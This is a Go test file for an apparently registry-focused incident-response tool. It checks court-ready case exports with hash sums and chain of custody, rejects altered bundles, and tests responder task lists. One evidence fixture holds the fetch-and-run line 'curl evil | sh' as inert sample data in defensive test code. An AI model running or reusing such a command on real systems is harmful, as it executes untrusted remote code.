package incident_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"strconv"
	"strings"
	"testing"
	"time"

	"cratewarden"
	"cratewarden/action"
	"cratewarden/incident"
	"cratewarden/ledger"
)

func members(t *testing.T, archive []byte) map[string][]byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(archive), int64(len(archive)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for _, f := range z.File {
		if f.Method != zip.Store || strings.Contains(f.Name, "..") || f.Mode()&0o111 != 0 {
			t.Errorf("%s: %v %v", f.Name, f.Method, f.Mode())
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		if out[f.Name], err = io.ReadAll(r); err != nil {
			t.Fatal(err)
		}
	}
	return out
}

func sum(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// What a court gets: everything, provable, and that it was taken.
func TestCaseForACourt(t *testing.T) {
	t.Parallel()
	var cfg incident.Config
	k := newStage(t, func(c *incident.Config) { cfg = *c })
	k.store()
	i, _ := k.containedAugust()
	removed := k.removeAugust(i)
	sample := []byte("curl evil | sh\n")
	_, err := k.Attach(t.Context(), k.bo, i.ID, "x.sh", bytes.NewReader(sample))
	k.must(err)
	var out bytes.Buffer
	k.must(k.ExportCase(t.Context(), k.ada, i.ID, &out))
	got := members(t, out.Bytes())

	sums := 0
	for l := range strings.Lines(string(got["SHA256SUMS"])) {
		hash, name, _ := strings.Cut(strings.TrimSpace(l), "  ")
		if sums++; got[name] == nil || sum(got[name]) != hash {
			t.Errorf("%s is not what its sum says", name)
		}
	}
	if sums != len(got)-1 {
		t.Errorf("%d sums for %d members", sums, len(got))
	}
	bundle := got["evidence/"+removed.Evidence+".tar"]
	if bundle == nil || sum(firstMember(t, bundle)) != removed.Evidence {
		t.Fatal("the sealed bundle is not in it")
	}
	if !bytes.Equal(got["files/1.bin"], sample) {
		t.Error("the attached file is not in it")
	}
	k.chained(got, removed, cfg.Ledger)
	for _, m := range k.timeline(k.Service, i.ID) {
		if m.What == "incident.export" && m.Who == "Ada" {
			return
		}
	}
	t.Error("the timeline does not tell that the case was taken out")
}

// chained checks the chain of custody: who sealed, and this export itself.
func (k *stage) chained(got map[string][]byte, removed action.Plan, log *ledger.Log) {
	t := k.t
	t.Helper()
	var chain struct {
		Bundles []struct {
			SHA256 string
			By     string
			Sealed struct{ Ledger int64 }
		}
		Exports []struct {
			Ledger     int64
			Who, WhoID string
		}
	}
	if err := json.Unmarshal(got["custody.json"], &chain); err != nil {
		t.Fatal(err)
	}
	if len(chain.Bundles) != 1 || chain.Bundles[0].SHA256 != removed.Evidence || chain.Bundles[0].By != "Ada" || len(chain.Exports) != 1 || chain.Exports[0].Who != "Ada" {
		t.Fatalf("%+v", chain)
	}
	for _, index := range []int64{chain.Bundles[0].Sealed.Ledger, chain.Exports[0].Ledger} {
		r, err := log.Get(t.Context(), index)
		k.must(err)
		if !bytes.Equal(got["ledger/"+strconv.FormatInt(index, 10)+".json"], r.Body) {
			t.Errorf("entry %d is not as it was hashed", index)
		}
	}
	if !strings.Contains(string(got["custody.md"]), removed.Evidence) || !strings.Contains(string(got["README.txt"]), "CAUTION") {
		t.Error("the readable page lacks the bundle")
	}
}

func firstMember(t *testing.T, archive []byte) []byte {
	t.Helper()
	r := tar.NewReader(bytes.NewReader(archive))
	if _, err := r.Next(); err != nil {
		t.Fatal(err)
	}
	out, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// lookOnly can only be looked at.
type lookOnly struct{ incident.Evidence }

// broken gives half a bundle: the store no longer has what was sealed.
type broken struct{ incident.Evidence }

func (broken) Export(_ context.Context, _ ledger.Digest, w io.Writer) error {
	_, _ = w.Write([]byte("half a bundle"))
	return cratewarden.Errorf(cratewarden.Conflict, "The part was changed.")
}

// An archive in which something is not what was sealed has no end, and one
// without a store of evidence is refused before it is recorded.
func TestCaseForACourtIsWholeOrNothing(t *testing.T) {
	t.Parallel()
	var cfg incident.Config
	k := newStage(t, func(c *incident.Config) { cfg = *c })
	k.store()
	i, _ := k.containedAugust()
	k.removeAugust(i)
	sealed := cfg.Evidence
	cfg.Evidence = lookOnly{sealed}
	if err := incident.New(cfg).ExportCase(t.Context(), k.ada, i.ID, io.Discard); cratewarden.KindOf(err) != cratewarden.Unavailable {
		t.Errorf("without a store: %v", err)
	}
	cfg.Evidence = broken{sealed}
	var out bytes.Buffer
	if err := incident.New(cfg).ExportCase(t.Context(), k.ada, i.ID, &out); cratewarden.KindOf(err) != cratewarden.Conflict {
		t.Errorf("with a changed part: %v", err)
	}
	if _, err := zip.NewReader(bytes.NewReader(out.Bytes()), int64(out.Len())); err == nil {
		t.Error("half an archive reads as a whole one")
	}
}

// What needs whom, on a registry where things wait.
func TestNeeds(t *testing.T) {
	t.Parallel()
	var cfg incident.Config
	k := newStage(t, func(c *incident.Config) { cfg = *c })
	k.store()
	a := k.story.August
	unled := k.open(incident.Flood, incident.Undecided, action.AccountSubject(k.story.Squatter.Account.UserID, ""))
	i, _ := k.containedAugust()
	_, err := k.Decide(t.Context(), k.ada, i.ID, incident.Change{Set: map[incident.Field]string{incident.LeadField: "ada", incident.SeverityField: "critical"}, Was: map[incident.Field]string{incident.LeadField: "", incident.SeverityField: string(i.Severity)}})
	k.must(err)
	_, err = k.Hold(t.Context(), k.bo, i.ID, "note-report", "")
	k.must(err)
	plan, err := k.DraftRemoval(t.Context(), k.ada, i.ID, nil, incident.DraftTexts{}, "")
	k.must(err)
	plan, _, err = k.engine.Review(t.Context(), k.ada, plan.ID)
	k.must(err)

	ada, err := k.Needs(t.Context(), k.ada)
	k.must(err)
	bo, err := k.Needs(t.Context(), k.bo)
	k.must(err)
	if len(ada.Missing)+len(bo.Missing) != 0 {
		t.Fatal(ada.Missing, bo.Missing)
	}
	if len(ada.Unled) != 1 || ada.Unled[0].Incident != unled.ID || len(ada.Lead) != 1 || !ada.Lead[0].Urgent || len(ada.Tasks) != 0 || len(ada.Approvals) != 0 {
		t.Errorf("%+v", ada)
	}
	if len(bo.Lead) != 0 || len(bo.Tasks) != 1 || bo.Tasks[0].Incident != i.ID || len(bo.Approvals) != 1 || bo.Approvals[0].Link != "/plans/"+plan.ID || bo.Count() < 3 || bo.Urgent() < 1 {
		t.Errorf("%+v", bo)
	}
	if len(ada.Ending) != 0 || len(ada.Risen) != 0 {
		t.Errorf("nothing ends and nothing rose: %+v %+v", ada.Ending, ada.Risen)
	}
	// Days later the holds still wait for a decision.
	cfg.Clock = func() time.Time { return time.Now().AddDate(0, 0, 8) }
	later, err := incident.New(cfg).Needs(t.Context(), k.ada)
	k.must(err)
	if len(later.Ending) != len(a.Advisories) || !strings.Contains(later.Ending[0].Title, "held for 8 days") {
		t.Errorf("%+v", later.Ending)
	}
	k.endsSoon(a.SideAccounts[0].UserID)
}

// endsSoon has a lock end tomorrow, and then be lengthened.
func (k *stage) endsSoon(account int32) {
	k.t.Helper()
	lock := func(until time.Time) {
		step, err := k.engine.Catalogue().Encode("account.lock", action.AccountLock{AccountRef: action.AccountRef{Account: account}, LockTerms: action.LockTerms{Reason: "for now", Until: &until}})
		k.must(err)
		p, err := k.engine.Draft(k.t.Context(), k.ada, action.Order{Title: "lock", Steps: []action.StepText{step}}, "")
		k.must(err)
		k.apply(p)
	}
	ending := func() []incident.Need {
		n, err := k.Needs(k.t.Context(), k.ada)
		k.must(err)
		return n.Ending
	}
	lock(time.Now().Add(20 * time.Hour))
	if got := ending(); len(got) != 1 || !got[0].Urgent || got[0].Subject.Kind != "account" {
		k.t.Errorf("%+v", got)
	}
	lock(time.Now().AddDate(0, 1, 0))
	if got := ending(); len(got) != 0 {
		k.t.Errorf("a lock that was lengthened still ends: %+v", got)
	}
}
